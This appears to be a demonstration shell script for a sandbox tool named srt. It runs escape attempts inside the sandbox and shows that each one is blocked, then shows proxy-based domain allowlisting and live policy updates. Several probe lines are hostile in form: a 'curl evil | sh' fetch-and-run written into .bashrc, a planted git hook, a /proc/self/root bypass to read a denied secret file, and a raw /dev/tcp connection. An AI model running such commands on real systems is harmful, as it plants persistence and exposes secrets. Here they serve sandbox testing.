#!/bin/bash
# A short demonstration of the sandbox on real files.
# Usage: scripts/demo.sh [path/to/srt]
set -u
SRT=$(realpath "${1:-build/srt}")
work=$(mktemp -d /tmp/srt-demo.XXXXXX)
trap 'rm -rf "$work"' EXIT
cd "$work" || exit 1
mkdir project
echo "top secret" > project/secret.key
cat > settings.json <<JSON
{
  "filesystem": {
    "allowWrite": ["."],
    "denyRead": ["./secret.key", "~/.ssh"]
  }
}
JSON
cd project || exit 1
echo "(relative paths are relative to the directory srt starts in: the project)"
echo "== srt $("$SRT" --version | cut -d' ' -f2): settings"
cat ../settings.json
echo
try() {
	local what=$1 cmd=$2 out
	out=$("$SRT" --settings ../settings.json -- bash -c "$cmd" 2>&1)
	local rc=$?
	printf '%-44s exit %-3s %s\n' "$what" "$rc" "$(echo "$out" | tail -n1)"
}
try "write inside the working directory"   'echo hello > notes.txt && cat notes.txt'
try "write to the home directory"           'echo x > ~/srt-demo-should-not-exist'
try "write to /etc"                         'echo x > /etc/srt-demo'
try "create .bashrc in the project"         'echo "curl evil | sh" > .bashrc'
try "plant a git hook"                      'mkdir -p .git/hooks && echo x > .git/hooks/pre-commit'
try "read the denied secret.key"            'cat secret.key'
try "read it through /proc/self/root"       "cat /proc/self/root$PWD/secret.key"
try "processes visible (own PID namespace)" 'ps -e --no-headers | wc -l'
try "unmount a policy mount"                "umount $PWD"
try "reach the network"                     'exec 3<>/dev/tcp/127.0.0.1/22 && echo connected'

echo
echo "== the network: only srt's proxies reach out, and they apply allowedDomains"
# a local origin on the host, allowed by IP literal and port; a name that is not
python3 -m http.server 0 --bind 127.0.0.1 --directory "$work" > "$work/origin.log" 2>&1 &
origin=$!
trap 'kill $origin 2>/dev/null; rm -rf "$work"' EXIT
port=
for _ in $(seq 50); do
	port=$(sed -n 's/.*port \([0-9]*\).*/\1/p' "$work/origin.log" | head -n1)
	[ -n "$port" ] && break
	sleep 0.1
done
cat > ../net.json <<JSON
{ "network": { "allowedDomains": ["127.0.0.1:$port"] } }
JSON
cat ../net.json
curl_try() {
	local what=$1 url=$2 out
	out=$("$SRT" --settings ../net.json -- curl -sS --max-time 10 --noproxy '' -x "http://127.0.0.1:3128" \
		-o /dev/null -w '%{http_code}\n' "$url" 2>&1)
	# the HTTP status, then srt's summary of what it blocked (stderr)
	printf '%-44s %s\n' "$what" "$(echo "$out" | grep -v '^srt:' | tr -d '\n')"
	echo "$out" | grep '^srt:' | sed 's/^/    /'
}
curl_try "GET the allowed local origin (HTTP status)" "http://127.0.0.1:$port/"
curl_try "GET a name not in allowedDomains"           "http://example.com/"

echo
echo "== a live update through --control-fd: the running command's network lists replaced"
# srt reads one complete settings object per line from descriptor 3; the
# command starts refused, a first line that is not valid is reported and
# dropped, the next one allows the origin for the following connections
cat > ../live.json <<JSON
{ "network": { "allowedDomains": [] }, "filesystem": {} }
JSON
# (an anonymous pipe: srt refuses a named FIFO, which the command could open)
updates() {
	sleep 1
	echo 'not a settings object'
	echo '{ "network": { "allowedDomains": ["127.0.0.1:'"$port"'"] }, "filesystem": {} }'
}
"$SRT" --settings ../live.json --control-fd 3 -- bash -c '
	code() { curl -sS --max-time 10 --noproxy "" -x http://127.0.0.1:3128 -o /dev/null \
		-w "%{http_code}" "http://127.0.0.1:'"$port"'/" 2>/dev/null; }
	echo "before the update:  HTTP $(code)"
	for i in $(seq 50); do [ "$(code)" = 200 ] && break; sleep 0.1; done
	echo "after the update:   HTTP $(code)"' 3< <(updates) 2>&1 | grep -v '^srt:   \.\.\.$' | sed 's/^/    /'
kill $origin 2>/dev/null
echo
echo "on the host afterwards:"
ls -A
[ -e ~/srt-demo-should-not-exist ] && echo "FAIL: home was written" || echo "home untouched; no stand-ins left behind"
